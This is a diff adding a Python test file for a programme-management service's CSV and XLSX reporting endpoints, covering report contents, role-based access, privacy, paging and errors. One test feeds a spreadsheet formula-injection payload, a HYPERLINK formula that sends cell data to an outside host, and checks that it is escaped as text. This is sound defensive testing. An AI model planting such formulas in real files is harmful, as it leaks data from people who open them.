@@ -1,0 +1,281 @@
+"""Reports over HTTP: what they tell, to whom, and that spreadsheet programs run nothing of it."""
+
+import asyncio
+import csv
+import io
+import sys
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree as ET
+
+import httpx
+import pytest
+
+from projections.reports import REPORTS
+from service import sheets
+from service.api import reporting
+from service.edge import now
+from tests.conftest import Api
+from tests.service.api.a_team import ATeam, a_team, ok
+from tests.service.api.everybody import Everybody, everybody
+from tests.service.api.setting import ballot, made, programme
+from tests.service.api.spreadsheet import cells
+from tests.service.api.test_trips import booking, euros, fixed
+
+Rows = list[dict[str, str]]
+
+
+async def report(client: httpx.AsyncClient, name: str, **query: Any) -> Rows:
+    answer = await client.get(f"/reporting/{name}.csv", params=query)
+    assert answer.status_code == 200, answer.text
+    return list(csv.DictReader(io.StringIO(answer.text, newline="")))
+
+
+async def at_head(api: Api) -> dict[str, int]:
+    return {"at_least": await api.kring.log.head()}
+
+
+async def all_of(api: Api) -> Everybody:
+    """Everything that there can be, with a booking that was confirmed and a gathering that was held."""
+    all_ = await everybody(api)
+    team, ids = all_.team, all_.ids
+    await ok(await team.members[0].post(f"/bookings/{ids['booking']}/confirmation", json={"reference": "AB-12"}), 200)
+    began = now() - timedelta(hours=3)
+    when = {"starts_at": began.isoformat(), "ends_at": (began + timedelta(hours=2)).isoformat(), "place": "Zwolle"}
+    planned = await team.members[0].post(f"/teams/{team.id}/gatherings", json={**when, "kind": "own"})
+    path = f"/gatherings/{made(planned)['id']}"
+    await ok(await team.members[0].post(f"{path}/holding"), 200)
+    people = [{"person_id": one, "present": one != team.people[0]} for one in team.people[:4]]
+    await ok(await team.members[0].post(f"{path}/attendance", json={"people": people}), 200)
+    await ok(await team.commissioner.post(f"/commitments/{ids['commitment']}/move", json=MOVED), 200)
+    return all_
+
+
+MOVED = {"due_on": "2027-04-01", "reason": "Later"}
+
+
+async def test_every_report_tells_what_happened(api: Api) -> None:
+    all_ = await all_of(api)
+    team, ids, here = all_.team, all_.ids, {"programme": all_.team.programme}
+    found = {one.name: await report(team.manager, one.name, **here, **await at_head(api)) for one in REPORTS}
+    assert {name for name, rows in found.items() if not rows} == set()
+    for one in REPORTS:
+        assert list(found[one.name][0]) == [column.name for column in one.columns]
+        assert {(row["programme"], row["edition"]) for row in found[one.name]} == {("Leergang", "2016")}
+        keys = [tuple(row[name] for name in one.key) for row in found[one.name]]
+        assert len(set(keys)) == len(keys)
+    assert {row["person_id"] for row in found["participation"]} >= set(team.people)
+    _as_it_was(found, ids, team)
+
+
+def _as_it_was(found: dict[str, Rows], ids: dict[str, str], team: ATeam) -> None:
+    turnout = _only(found["turnout"], ballot_id=ids["ballot"])
+    assert (turnout["electors"], turnout["papers"], turnout["turnout_percent"]) == ("5", "5", "100.0")
+    counted = _only(found["turnout"], ballot_id=ids["counted"])
+    assert (counted["status"], counted["papers"], counted["challenges"]) == ("counted", "5", "2")
+    (attendance,) = found["attendance"]
+    assert (attendance["recorded"], attendance["present"], attendance["present_percent"]) == ("4", "3", "75.0")
+    assert attendance["team_id"] == team.id
+    phases = {row["phase"]: row for row in found["phases"] if row["team_id"] == team.id}
+    assert list(phases) == ["formed", "active", "presenting", "following_up"]
+    assert phases["presenting"]["ended_at"] == phases["following_up"]["began_at"]
+    assert (phases["presenting"]["days"], phases["following_up"]["days"]) == ("0.0", "")
+    ranks = {(row["team_id"], row["rank"]): row["members"] for row in found["preferences_met"]}
+    assert ranks[team.id, ""] == "4"
+    (trip,) = found["trip_costs"]
+    assert (trip["currency"], trip["expenses_minor"]) == ("EUR", "1000")
+    assert int(trip["cost_minor"]) == int(trip["bookings_minor"]) + 1000
+    evidence = _only(found["evidence"], recommendation_id=ids["recommendation"])
+    assert (evidence["status"], evidence["evidence"], evidence["sources"]) == ("in_progress", "1", "1")
+    response = _only(found["response_times"], recommendation_id=ids["recommendation"])
+    assert (response["verdict"], response["days"]) == ("accepted", "0.0")
+    commitment = _only(found["commitments_kept"], commitment_id=ids["commitment"])
+    assert (commitment["first_due_on"], commitment["due_on"], commitment["moves"]) == ("2027-03-01", "2027-04-01", "1")
+    assert (commitment["status"], commitment["settled_at"]) == ("open", "")
+
+
+def _only(rows: Rows, **said: str) -> dict[str, str]:
+    (row,) = [one for one in rows if said.items() <= one.items()]
+    return row
+
+
+TOLD_OF = {"turnout", "phases", "evidence", "response_times", "commitments_kept"}
+"""What a commissioner that sends nobody is told of. Never attendance, rankings or what a trip cost."""
+
+
+async def test_an_organisation_reads_what_it_was_told_and_a_manager_their_programmes(api: Api) -> None:
+    all_ = await all_of(api)
+    bank, head = all_.known["reporting"], await at_head(api)
+    found = {one.name: await report(bank, one.name, **head) for one in REPORTS}
+    assert {name for name, rows in found.items() if rows} == TOLD_OF
+    for rows in (found[name] for name in TOLD_OF - {"turnout"}):
+        assert {row["organisation_id"] for row in rows} == {all_.team.bank}
+    everything = {one.name: await report(all_.team.manager, one.name) for one in REPORTS}
+    own = {one.name: await report(all_.known["manager"], one.name) for one in REPORTS}
+    here = {one.name: await report(all_.team.manager, one.name, programme=all_.team.programme) for one in REPORTS}
+    assert own == here
+    assert len(everything["participation"]) > len(own["participation"])
+    elsewhere = await report(all_.known["manager elsewhere"], "participation")
+    assert [row["programme"] for row in elsewhere] == ["Andere"]
+    assert await report(all_.known["manager elsewhere"], "turnout") == []
+
+
+async def test_an_employer_reads_who_it_sends(api: Api) -> None:
+    setting = await programme(api, participants=2, challenges=1)
+    client = await api.as_("reporting", organisations=(setting.organisation,))
+    rows = await report(client, "participation", **await at_head(api))
+    assert {(row["person_id"], row["organisation"], row["status"]) for row in rows} == {
+        (one, "Bank", "active") for one in setting.ids
+    }
+    person = await api.as_("reporting", setting.ids[0])
+    assert await report(person, "participation") == []
+
+
+async def test_no_name_of_a_person_and_no_word_stands_in_a_report(api: Api) -> None:
+    all_ = await all_of(api)
+    texts = [
+        (await all_.team.manager.get(f"/reporting/{one.name}.csv", params=await at_head(api))).text for one in REPORTS
+    ]
+    said = "\n".join(texts)
+    for word in (
+        "Anna",
+        "Guide",
+        "example.org",
+        "Start-ups",
+        "Ze vertrekken",
+        "Jansen",
+        "kwartiermaker",
+        "Lunch",
+        "Later",
+    ):
+        assert word not in said
+
+
+async def test_both_formats_say_the_same(api: Api) -> None:
+    all_ = await all_of(api)
+    head = await at_head(api)
+    for one in REPORTS:
+        plain = await all_.team.manager.get(f"/reporting/{one.name}.csv", params=head)
+        sheet = await all_.team.manager.get(f"/reporting/{one.name}.xlsx", params=head)
+        assert plain.headers["Content-Type"] == "text/csv; charset=utf-8"
+        assert plain.headers["Content-Disposition"] == f'attachment; filename="{one.name}.csv"'
+        assert sheet.headers["Content-Type"] == sheets.Xlsx.MEDIA_TYPE
+        assert len(sheet.content) == int(sheet.headers["Content-Length"])
+        shown = cells(sheet.content)
+        rows = list(csv.reader(io.StringIO(plain.text, newline="")))
+        assert plain.text.count("\r\n") == len(rows) == len(shown)
+        texts = [n for n, column in enumerate(one.columns) if column.kind == "text" and column.name != "team_id"]
+        assert shown[0] == rows[0]
+        filled = [[row[n] for n in texts if row[n]] for row in rows[1:]]
+        assert all(set(texts) <= set(cells_) for texts, cells_ in zip(filled, shown[1:], strict=True))
+
+
+async def test_what_looks_like_a_formula_is_a_text(api: Api) -> None:
+    manager = await api.as_("manager")
+    evil = '=HYPERLINK("http://example.org/?"&A1,"klik")'
+    opened = made(await manager.post("/programmes", json={"name": evil, "edition": "-1+1"}))["id"]
+    person = made(await manager.post("/people", json={"name": "Anna", "email": "a@example.org"}))["id"]
+    bank = made(await manager.post("/organisations", json={"name": "@SUM(A1)"}))["id"]
+    body = {"person_id": person, "organisation_id": bank}
+    made(await manager.post(f"/programmes/{opened}/participants", json=body))
+    (row,) = await report(manager, "participation", **await at_head(api))
+    assert (row["programme"], row["edition"], row["organisation"]) == (f"'{evil}", "'-1+1", "'@SUM(A1)")
+    shown = cells((await manager.get("/reporting/participation.xlsx")).content)
+    assert {evil, "-1+1", "@SUM(A1)"} <= set(shown[1])
+
+
+async def test_a_report_comes_in_pages_and_whole(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
+    setting = await programme(api, participants=5, challenges=1)
+    monkeypatch.setattr("service.store.reporting.PAGE", 2)
+    written: list[int] = []
+    write = sheets.Csv.write
+
+    def counted(sheet: sheets.Csv, rows: Any) -> None:
+        written.append(len(rows))
+        write(sheet, rows)
+
+    monkeypatch.setattr(sheets.Csv, "write", counted)
+    rows = await report(setting.manager, "participation", **await at_head(api))
+    assert sorted(row["person_id"] for row in rows) == sorted(setting.ids)
+    assert written == [2, 2, 1]
+
+
+async def test_more_rows_than_a_worksheet_has_are_refused_and_not_cut_off(
+    api: Api, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    setting = await programme(api, participants=3, challenges=1)
+    monkeypatch.setattr(sheets, "ROWS_AT_MOST", 3)
+    answer = await setting.manager.get("/reporting/participation.xlsx", params=await at_head(api))
+    assert (answer.status_code, answer.json()["code"]) == (409, "too-many-rows")
+    assert len(await report(setting.manager, "participation")) == 3
+
+
+async def test_a_running_ballot_shows_how_many_voted(api: Api) -> None:
+    setting = await programme(api)
+    running = await ballot(setting)
+    vote = {"approvals": [setting.challenges[0]]}
+    made(await setting.people[0].put(f"/ballots/{running}/vote", json=vote), 200)
+    (row,) = await report(setting.manager, "turnout", **await at_head(api))
+    assert (row["status"], row["papers"], row["electors"], row["turnout_percent"]) == ("open", "1", "4", "25.0")
+    assert row["closed_at"] == ""
+
+
+async def test_a_booking_that_was_paid_counts_once_and_what_came_back_is_taken_off(api: Api) -> None:
+    team = await a_team(api)
+    path, member = await fixed(team), team.members[0]
+    hotel = made(await member.post(f"{path}/bookings", json={**booking(team), "amount": euros(30_000)}))["id"]
+    train = made(await member.post(f"{path}/bookings", json={**booking(team), "amount": euros(9_000)}))["id"]
+    for one in (hotel, train):
+        made(await member.post(f"/bookings/{one}/confirmation", json={"reference": "AB"}), 200)
+        amount = euros(30_000) if one == hotel else euros(9_000)
+        paid = {"payer": team.people[0], "amount": amount, "text": "Betaald", "booking_id": one}
+        made(await member.post(f"{path}/expenses", json=paid))
+    made(await member.post(f"/bookings/{train}/cancellation", json={"reason": "Staking", "refund": euros(8_000)}), 200)
+    (row,) = await report(team.manager, "trip_costs", **await at_head(api))
+    figures = {name: int(row[name]) for name in ("bookings_minor", "expenses_minor", "refunds_minor", "cost_minor")}
+    assert figures == {"bookings_minor": 30_000, "expenses_minor": 39_000, "refunds_minor": 8_000, "cost_minor": 31_000}
+
+
+@pytest.mark.parametrize("file", ["ballots.csv", "turnout", "turnout.pdf", "turnout.csv.csv", "Turnout.csv"])
+async def test_what_is_no_report_is_not_found_and_none_is_listed(api: Api, file: str) -> None:
+    answer = await (await api.as_("manager")).get(f"/reporting/{file}")
+    assert answer.status_code == 404
+    assert not any(one.name in answer.text for one in REPORTS if one.name not in file)
+
+
+async def test_a_programme_of_others_is_not_found(api: Api) -> None:
+    setting = await programme(api, participants=1, challenges=0)
+    stranger = await api.as_("reporting", organisations=(await _organisation(setting.manager),))
+    for one in (stranger, setting.manager):
+        named = setting.programme if one is stranger else "programme_01m84zzzzzzzzzzzzzzzzzzzzz"
+        assert (await one.get("/reporting/turnout.csv", params={"programme": named})).status_code == 404
+    assert (await setting.manager.get("/reporting/turnout.csv", params={"programme": "x"})).status_code == 422
+    as_of = await setting.manager.get("/reporting/turnout.csv", params={"as_of": 3})
+    assert (as_of.status_code, as_of.json()["code"]) == (400, "as-of-not-offered")
+
+
+async def _organisation(manager: httpx.AsyncClient) -> str:
+    return made(await manager.post("/organisations", json={"name": "Isala"}))["id"]
+
+
+def test_every_report_is_there_in_both_formats() -> None:
+    assert sorted(reporting.BY_FILE) == sorted(f"{one.name}.{end}" for one in REPORTS for end in ("csv", "xlsx"))
+
+
+CHARTS = Path(__file__).parents[3] / "docs" / "how-to" / "charts.py"
+SVG = "{http://www.w3.org/2000/svg}"
+
+
+async def test_the_example_draws_three_charts(api: Api, tmp_path: Path) -> None:
+    all_ = await all_of(api)
+    token = await api.token("manager")
+    await report(all_.team.manager, "turnout", **await at_head(api))
+    script = await asyncio.create_subprocess_exec(
+        sys.executable, CHARTS, api.url, tmp_path, stdin=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
+    )
+    _, wrong = await asyncio.wait_for(script.communicate(token.encode()), 60)
+    assert (script.returncode, wrong.decode()) == (0, "")
+    drawn = {name: ET.parse(tmp_path / f"{name}.svg").getroot() for name in ("turnout", "phases", "commitments")}
+    bars = {name: len(svg.findall(f"{SVG}rect")) for name, svg in drawn.items()}
+    assert bars == {"turnout": 2, "phases": 6, "commitments": 1}
